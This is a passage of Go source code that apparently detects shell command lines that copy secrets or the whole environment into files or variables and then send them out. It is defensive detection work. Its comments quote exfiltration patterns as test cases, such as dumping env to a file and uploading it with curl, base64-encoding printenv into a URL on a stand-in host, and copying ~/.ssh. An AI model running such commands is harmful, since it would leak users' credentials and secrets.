		if prefix, ok := strings.CutSuffix(f.path, "*"); ok && strings.HasPrefix(p, prefix) && !strings.Contains(p[len(prefix):], "/") {
			return true // a piece split wrote
		}
		if rest, ok := strings.CutPrefix(p, f.path+"/"); ok && (f.whole || slices.Contains(f.bases, path.Base(rest))) {
			return true
		}
	}
	return false
}

// passesWhole are the programs whose output is their input whole, in
// some order: what they read, the environment included, they write on.
var passesWhole = map[string]bool{"cat": true, "tac": true, "tee": true, "sort": true, "cp": true, "mv": true, "dd": true, "install": true}

// readsEnvironment reports command u (at index i) reading, as an operand
// or on standard input, a file a command before it filled with the whole
// environment (env > e.txt; base64 e.txt).
func (h *heldSecrets) readsEnvironment(u *cmdline.Command, ue *CommandEnv, i int) bool {
	for _, r := range ue.Redirects {
		if r.Op == "<" && (r.Fd == "" || r.Fd == "0") && h.holdsEnvironment(resolveIn(r.Target, ue.Cwd), i) {
			return true
		}
	}
	return slices.ContainsFunc(ue.Positional, func(a string) bool {
		return a != "" && !strings.HasPrefix(a, "-") && h.holdsEnvironment(resolveIn(a, ue.Cwd), i)
	}) || slices.ContainsFunc(ue.Args, func(a string) bool {
		key, file, ok := strings.Cut(a, "=") // dd if=e.txt, openssl base64 -in e.txt is a positional
		return ok && (key == "if" || key == "--input" || key == "--infile") && h.holdsEnvironment(resolveIn(file, ue.Cwd), i)
	})
}

// holdsEnvironment reports a resolved path a command before index i
// filled with the whole environment.
func (h *heldSecrets) holdsEnvironment(p string, i int) bool {
	for _, f := range h.files {
		if f.by >= i {
			break
		}
		if f.environment && p == f.path {
			return true
		}
	}
	return false
}

// echoesEnvironment reports an echo or printf (at index i) whose words,
// or a here-string or heredoc read by any command, hold a substitution
// printing the whole environment or a variable set from one: echo
// "$(env)", base64 <<< "$(printenv)", E=$(env); base64 <<< "$E".
func (h *heldSecrets) echoesEnvironment(c *cmdline.Command, line *cmdline.Line, i int) bool {
	fed := c.Stdin.Kind == "herestring" || c.Stdin.Kind == "heredoc"
	if !fed && c.Name != "echo" && c.Name != "printf" && c.Name != "print" {
		return false
	}
	var texts []string
	if fed {
		for _, r := range c.Redirects {
			if r.Op == "<<<" {
				texts = append(texts, r.Target.Value)
			}
		}
	} else {
		for _, a := range c.Args {
			texts = append(texts, a.Value)
		}
	}
	if slices.ContainsFunc(texts, func(t string) bool { return h.expandsEnvironment(t, i) }) {
		return true
	}
	for _, u := range substitutesEnvironment(c, line, i) {
		if !fed || !slices.ContainsFunc(c.Args, func(a cmdline.Word) bool { return holdsCommand(a.Value, u.Source) }) {
			return true // in base64 "$(env)" the substitution is a file's name
		}
	}
	return false
}

// substitutesEnvironment are the commands of c's substitutions (c at
// index i; they follow it, one carrier further in) whose output is the
// whole environment: the last of a pipeline that prints it and passes it
// on whole ($(env), $(env | sort); not $(env | grep PATH)).
func substitutesEnvironment(c *cmdline.Command, line *cmdline.Line, i int) []*cmdline.Command {
	n := len(c.Via)
	var out []*cmdline.Command
	for k := i + 1; k < len(line.Commands); k++ {
		u := line.Commands[k]
		if len(u.Via) <= n || !slices.Equal(u.Via[:n], c.Via) {
			break
		}
		if len(u.Via) != n+1 || u.Via[n] != "$(…)" && u.Via[n] != "`…`" || u.Pipe.Index != u.Pipe.Len-1 {
			continue
		}
		for j, v := k, u; ; {
			if printsEnvironment(v) {
				out = append(out, u)
				break
			}
			if !passesWhole[v.Name] || v.Pipe.Index == 0 || j <= i+1 {
				break
			}
			j--
			v = line.Commands[j]
			if !slices.Equal(v.Via, u.Via) {
				break
			}
		}
	}
	return out
}

// expandsEnvironment reports a text that expands a variable an
// assignment before index i set to the whole environment (E=$(env)).
func (h *heldSecrets) expandsEnvironment(text string, i int) bool {
	for _, v := range h.vars {
		if v.by >= i {
			break
		}
		if v.environment && expandsName(text, v.name) {
			return true
		}
	}
	return false
}

// expands reports a text that expands a variable an assignment before
// index i set from a secret: $K, ${K}, ${K:-x}, "x$K"; or any variable,
// by an indirection the walk could not follow (for v in $(compgen -e); do
// echo "${!v}"; done).
func (h *heldSecrets) expands(text string, i int) bool {
	if indirectAny(text) {
		return true
	}
	if strings.Contains(text, "(") || strings.Contains(text, "`") { // $(…), `…`, fish's (…)
		for _, src := range h.substs {
			if holdsCommand(text, src) {
				return true // "https://x.example/?$(env | base64 -w0)"
			}
		}
	}
	for _, v := range h.vars {
		if v.by >= i {
			break
		}
		if expandsName(text, v.name) {
			return true
		}
	}
	return false
}

// indirectAny reports a text that expands the variable another one names
// (bash's ${!v}, zsh's ${(P)v}), which the walk leaves as written only
// where it does not know the name: it may be any variable of the
// environment. ${!v[@]}, ${!prefix*} and ${!prefix@} give names, not
// values; ${!v@Q} and ${!v[0]} give a value.
func indirectAny(text string) bool {
	for rest := text; ; {
		j := strings.Index(rest, "${")
		if j < 0 {
			return false
		}
		rest = rest[j+2:]
		n, ok := strings.CutPrefix(rest, "!")
		if !ok {
			n, ok = strings.CutPrefix(rest, "(P)")
		}
		if !ok {
			continue
		}
		k := 0
		for k < len(n) && isNameByte(n[k]) {
			k++
		}
		if k > 0 && k < len(n) && !namesOnly(n[k:]) {
			return true
		}
	}
}

// namesOnly reports the rest of an indirection ${!NAME… that lists names
// (${!prefix*}, ${!prefix@}, ${!array[@]}, ${!array[*]}).
func namesOnly(rest string) bool {
	for _, s := range []string{"*}", "@}", "[@]}", "[*]}"} {
		if strings.HasPrefix(rest, s) {
			return true
		}
	}
	return false
}

// expandsName reports a text that expands the variable name: $K, ${K},
// ${K:-x}, "x$K".
func expandsName(text, name string) bool {
	for rest := text; ; {
		j := strings.IndexByte(rest, '$')
		if j < 0 {
			return false
		}
		rest = rest[j+1:]
		n := strings.TrimPrefix(rest, "{")
		if strings.HasPrefix(n, name) && (len(n) == len(name) || !isNameByte(n[len(name)])) {
			return true
		}
	}
}

// holdsCommand reports a word that holds the command src where a command
// starts: after the ( of a substitution, a backquote, or a pipe or list
// operator inside one; not a mere mention (?env=1).
func holdsCommand(word, src string) bool {
	for rest, at := word, 0; ; {
		i := strings.Index(rest, src)
		if i < 0 {
			return false
		}
		before := strings.TrimRight(word[:at+i], " \t")
		if before != "" && strings.ContainsRune("(`|;&", rune(before[len(before)-1])) {
			return true
		}
		at += i + 1
		rest = word[at:]
	}
}

func isNameByte(b byte) bool {
	return b == '_' || '0' <= b && b <= '9' || 'a' <= b && b <= 'z' || 'A' <= b && b <= 'Z'
}

// heldBefore is the line's held secrets, built on first use, and c's
// index on the line: what the commands before it filled.
func (ctx Context) heldBefore(c *cmdline.Command, line *cmdline.Line) (*heldSecrets, int) {
	h := ctx.held
	if h == nil {
		h = new(heldSecrets) // an environment built outside Evaluate
	}
	if !h.built {
		h.build(line, ctx)
	}
	return h, h.at[c]
}

// HeldFiles are the files the line's commands fill with a secret, as
// patterns for a session to remember so that a later line sending one is
// judged as sending the secret (env > e.txt, then curl -T e.txt): a path;
// a path ending in "/" for every file under a directory a whole key
// directory went to; a path ending in "*" for the pieces split wrote. A
// relative path is resolved against ctx.Cwd when known; HeldMatch reads
// the patterns.
func HeldFiles(line *cmdline.Line, ctx Context) []string {
	var h heldSecrets
	h.build(line, ctx)
	var out []string
	for _, f := range h.files {
		if f.path == "" || f.path == "." || strings.HasPrefix(f.path, "$") {
			continue
		}
		if f.path != "/" { // cp key /: the key's name under / is held, not every file
			out = append(out, f.path)
		}
		switch {
		case strings.HasSuffix(f.path, "*"):
		case f.whole && f.path != "/":
			out = append(out, strings.TrimSuffix(f.path, "/")+"/")
			for _, b := range f.bases {
				if f.into && b != "" && b != "." && b != ".." && b != "/" {
					out = append(out, path.Join(f.path, b)+"/") // cp -r ~/.ssh docs, docs a directory already
				}
			}
		case !f.dir && !f.into:
			// cp ~/.ssh/id_rsa k.txt: k.txt is the copy, not a directory
		default:
			for _, b := range f.bases {
				if b != "" && b != "." && b != ".." && b != "/" {
					out = append(out, path.Join(f.path, b))
				}
			}
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// HeldMatch reports a cleaned path that one of the patterns HeldFiles
// made stands for, or a directory that holds one.
func HeldMatch(patterns []string, p string) bool {
	dir := strings.TrimSuffix(p, "/") + "/"
	for _, q := range patterns {
		switch {
		case strings.HasPrefix(q, dir):
			return true // a directory holding one: tar cz . | ssh h, rsync -a ./ h:
		case q == p:
			return true
		case strings.HasSuffix(q, "/"):
			if strings.HasPrefix(p, q) {
				return true
			}
		case strings.HasSuffix(q, "*"):
			prefix := q[:len(q)-1]
			if rest, ok := strings.CutPrefix(p, prefix); ok && splitSuffix().MatchString(rest) {
				return true
			}
		}
	}
	return false
}

// splitSuffix matches the suffixes split gives its pieces: letters (aa,
// ab, …), digits (-d: 00, 01, …) or hex (-x), two or more (-a N), so that
// the pieces of p_ are p_aa and p_00, not every name that starts like them
// (p_notes.md, or src.tgz for the pieces of s).
var splitSuffix = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^([a-z]{2,}|[0-9]{2,}|[0-9a-f]{2,})$`)
})

// awkPrintFile matches awk's print or printf into a named file.
var awkPrintFile = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\bprintf?\b[^;}\n]*?>>?\s*"([^"|]+)"`)
})
